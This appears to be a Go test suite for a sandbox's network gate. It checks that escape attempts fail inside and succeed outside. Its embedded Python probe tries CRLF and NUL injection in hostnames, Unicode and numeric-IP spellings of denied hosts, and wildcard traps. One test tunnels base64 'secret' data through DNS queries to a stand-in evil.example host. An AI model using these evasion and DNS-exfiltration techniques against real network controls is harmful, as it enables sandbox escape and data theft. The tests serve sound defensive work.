package test

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// The escapes over the network that others have had (E40 to E53; TestEscapes says which test shows each). Every attack is made inside, where it must fail, and outside,
// where the same program succeeds.

// attacks is a program that makes many attempts and tells of each in a line, which begins with "reached" when there was an answer.
const attacks = `
import re, socket, struct, sys
how, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])

def get(name, payload=b"\0of no protocol\n"):
    s = socket.create_connection((name, port), 20)
    s.sendall(payload)
    s.settimeout(20)
    if payload[0] == 0:
        s.shutdown(socket.SHUT_WR)
    return s.makefile("rb").read()

def query(labels, kind):
    name = b"".join(bytes([len(l)]) + l for l in labels)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(20)
    s.sendto(struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + name + b"\0" + struct.pack(">2H", kind, 1), (host, port))
    answer = s.recv(4096)
    code, count = answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
    return b"records" if count or (not code and kind != 1) else b""

for target in sys.argv[4:]:
    try:
        if how == "names":
            got = get(target)
        elif how == "requests":
            got = get(host, target.encode("latin1").decode("unicode_escape").encode("latin1"))
        elif how == "paths":
            got = get(host, target.encode("latin1").decode("unicode_escape").encode("latin1"))
            got = re.search(rb"(?m)^[A-Z]+ \S+ \S*secret\S* \d+$", got) and got
        elif how == "queries":
            kind, name = target.split("/", 1)
            got = query([l.encode("latin1").decode("unicode_escape").encode("latin1") for l in name.split("|")], int(kind))
        print("reached" if got and b"400 Bad" not in got else "refused", target, repr((got or b"")[-60:]))
    except (OSError, UnicodeError) as e:
        print("refused", target, e)
`

// escaping makes the worlds in which the escapes are tried.
func escaping(t *testing.T, do func(t *testing.T, s *site)) {
	t.Helper()
	needs(t, "python3")
	served(t, func(t *testing.T, s *site) {
		s.put("attacks.py", attacks, 0o644)
		s.put("reach.py", reach, 0o644)
		s.Accept()
		do(t, s)
	})
}

// escapes makes each attempt inside, where none may succeed and none of the hosts may hear of any, and then outside, where every one must.
func (s *site) escapes(k *talk, how, inside, outside string, port int, targets ...string) {
	s.t.Helper()
	quoted := " '" + strings.Join(targets, "' '") + "'"
	mark := s.world.mark()
	got := k.ask(fmt.Sprintf("python3 attacks.py %s %s %d", how, inside, port) + quoted)
	if lines := strings.Split(got, "\n"); len(lines) != len(targets) || strings.Contains(got, "reached") {
		s.t.Errorf("inside: %s", got)
	}
	if told := slices.Concat(s.world.since(mark, "accepted "), s.world.since(mark, "query ")); len(told) > 0 {
		s.t.Errorf("inside, of %q the hosts heard %q", targets, told)
	}
	out := s.outside(fmt.Sprintf("python3 attacks.py %s %s %d", how, outside, port) + quoted)
	if strings.Count(out.stdout, "reached") != len(targets) {
		s.t.Errorf("control, outside: %v", out)
	}
}

// TestE40NamesThatAreNone: a name with a NUL, a line break, a zone or a blank is no name, whatever it ends in.
func TestE40NamesThatAreNone(t *testing.T) {
	escaping(t, func(t *testing.T, s *site) {
		k := s.talk("--allow", "*.allowed.example:80", "--allow", "allowed.example:80")
		s.escapes(k, "queries", "127.0.0.53", nameServer, 53, `1/denied|example\x00|allowed|example`, `1/x\r\nHost: y|allowed|example`, `1/fe80::1%eth0|allowed|example`, `1/a b|allowed|example`, `1/\xff|allowed|example`)
		k.end()
		for _, host := range []string{"", "*", "a b.example", "a.example\r\nb", "fe80::1%eth0", strings.Repeat("abcdefgh.", 30) + "example"} {
			if out := s.run("--allow", host, "--", "true"); out.exit == 0 {
				t.Errorf("--allow %q is taken: %v", host, out)
			}
		}
	})
}

// TestE41NothingListedIsNothingAllowed: a gate without a rule opens nothing.
func TestE41NothingListedIsNothingAllowed(t *testing.T) {
	escaping(t, func(t *testing.T, s *site) {
		s.put("casemate.yaml", "network:\n  allow: []\n  publish: [8099]\n", 0o644)
		s.Accept()
		if out := s.do("trust", "--yes"); out.exit != 0 {
			t.Fatal(out)
		}
		k := s.talk()
		if gateOf(t, k.cmd.Process.Pid) == 0 {
			t.Error("there is no gate")
		}
		s.escapes(k, "names", "-", "-", 7, "allowed.example", "denied.example", allowedHost, "::ffff:"+allowedHost)
		k.end()
	})
}

// TestE42OtherSpellings: a host that is denied is denied however it is spelt, and an address that no rule names is one in every notation.
func TestE42OtherSpellings(t *testing.T) {
	escaping(t, func(t *testing.T, s *site) {
		s.put("casemate.yaml", "network: {deny: [closed.allowed.example]}\n", 0o644)
		s.Accept()
		k := s.talk("--allow", "*.allowed.example:7")
		s.escapes(k, "names", "-", "-", 7, "closed.allowed.example", "CLOSED.Allowed.EXAMPLE", "closed.allowed.example.", "clo\u017fed.allowed.example", "\uff43losed.allowed.example", "closed\u3002allowed.example",
			"3405803786", "203.0.28938", "0xcb.0x0.0x71.0xa", "0313.0.0161.012", "::ffff:203.0.113.10", "::ffff:cb00:710a")
		if got := k.ask("python3 attacks.py names - 7 open.allowed.example"); !strings.HasPrefix(got, "reached") {
			t.Errorf("another host of the wildcard: %s", got)
		}
		k.end()
	})
}

// TestE43WildcardTraps: *.allowed.example is what lies below it, and no wildcard covers addresses.
func TestE43WildcardTraps(t *testing.T) {
	escaping(t, func(t *testing.T, s *site) {
		k := s.talk("--allow", "*.allowed.example:7")
		s.escapes(k, "names", "-", "-", 7, "evilallowed.example", "allowed.example", "a.allowed.example.evil.example", "x.evilallowed.example.evil.example")
		k.end()
		for _, pattern := range []string{"*.0.113.66", "*.66", "203.0.113.*", "*.com.*", "a*.example"} {
			if out := s.run("--allow", pattern, "--", "true"); out.exit == 0 {
				t.Errorf("--allow %q is taken: %v", pattern, out)
			}
		}
	})
}

// TestE48WithoutTheProxy: there is no variable to unset. Raw TCP, UDP as QUIC and DNS use it, and another resolver lead nowhere.
func TestE48WithoutTheProxy(t *testing.T) {
	escaping(t, func(t *testing.T, s *site) {
		k := s.talk("--allow", "allowed.example:443")
		has(t, "variables", k.ask(`env | grep -ci proxy || true`), "0")
		s.escapes(k, "names", "-", "-", 7, deniedHost, allowedHost, allowedHost6)
		s.escapes(k, "queries", nameServer, nameServer, 53, "1/allowed|example", "1/denied|example")
		const quic = `python3 -c 'import socket; s = socket.socket(2, 2); s.connect(("` + allowedHost + `", 443)); s.send(b"x" * 1200); print("sent")' 2>&1 | tail -1`
		hasNot(t, "UDP to an allowed host", k.ask(quic), "sent")
		has(t, "control, UDP", s.outside(quic).stdout, "sent")
		k.end()
	})
}

// TestE49Tunnels: the resolver inside asks nobody, whatever is asked for, so names carry nothing out.
func TestE49Tunnels(t *testing.T) {
	escaping(t, func(t *testing.T, s *site) {
		k := s.talk("--allow", "allowed.example:443")
		var targets []string
		for _, kind := range []int{1, 10, 15, 16, 33, 65, 255} {
			targets = append(targets, fmt.Sprintf("%d/c2VjcmV0|data-%d|evil|example", kind, kind))
		}
		s.escapes(k, "queries", "127.0.0.53", nameServer, 53, targets...)
		k.end()
		if got := s.world.told("query c2vjcmv0.data-16.evil.example"); len(got) == 0 {
			t.Errorf("control: the name server told %q", got)
		}
	})
}

// TestE50NobodyElsesDoor: while a gate is there nothing of the host listens that did not before, so no other user or program has it to use.
func TestE50NobodyElsesDoor(t *testing.T) {
	escaping(t, func(t *testing.T, s *site) {
		listening := func() string {
			return s.outside(`cat /proc/net/tcp /proc/net/tcp6 /proc/net/udp /proc/net/udp6 | awk '$4 == "0A" || $4 == "07" {print $2}' | sort`).stdout
		}
		before := listening()
		k := s.talk("--allow", "allowed.example:7")
		has(t, "the gate", k.ask("python3 attacks.py names - 7 allowed.example"), "reached")
		if with := listening(); with != before {
			t.Errorf("with a gate there listen %s, without %s", with, before)
		}
		if inside := k.ask(`awk '$4 == "0A"' /proc/net/tcp | wc -l`); inside == "0" {
			t.Error("control: nothing listens inside either")
		}
		k.end()
		k = s.talk("--publish", "8098:80")
		if with := listening(); !strings.Contains(with, "0100007F:1FA2") {
			t.Errorf("control: a published port is not seen: %s", with)
		}
		k.end()
	})
}

// TestE51AnotherSession: what one sandbox may reach, was answered or was allowed later is nothing to another.
func TestE51AnotherSession(t *testing.T) {
	escaping(t, func(t *testing.T, s *site) {
		a := s.talk("--allow", "allowed.example:80,7")
		id := s.running(t)
		b := s.talk("--fresh", "--allow", "api.example.com:80")
		address := strings.Fields(a.ask("getent ahostsv4 allowed.example") + " none")[0]
		try := func(k *talk, name string) string { return k.ask("python3 attacks.py names - 7 " + name) }
		has(t, "the other's address", try(b, address), "refused")
		has(t, "control: the one's own", try(a, address), "reached")
		has(t, "the other's host", try(b, "allowed.example"), "refused")
		if again := strings.Fields(b.ask("getent ahostsv4 api.example.com") + " none")[0]; again != address {
			t.Errorf("the first address of one is %s and of the other %s: the test needs the same", address, again)
		}
		hasNot(t, "the other's host behind the address that both have", b.ask("python3 reach.py "+address+" 80 http allowed.example"), "GET")
		if out := s.do("allow", id, "net:denied.example:80"); out.exit != 0 {
			t.Fatal(out)
		}
		get := "python3 reach.py denied.example 80 http"
		eventually(t, patience, "control: the one is allowed", func() bool { return strings.HasPrefix(a.ask(get), "GET") })
		has(t, "what the other was allowed", b.ask(get), "refused")
		if got := a.ask("python3 reach.py " + address + " 80 http allowed.example"); !strings.HasPrefix(got, "GET") {
			t.Errorf("control: the one by its own address: %s", got)
		}
		b.end()
		a.end()
	})
}
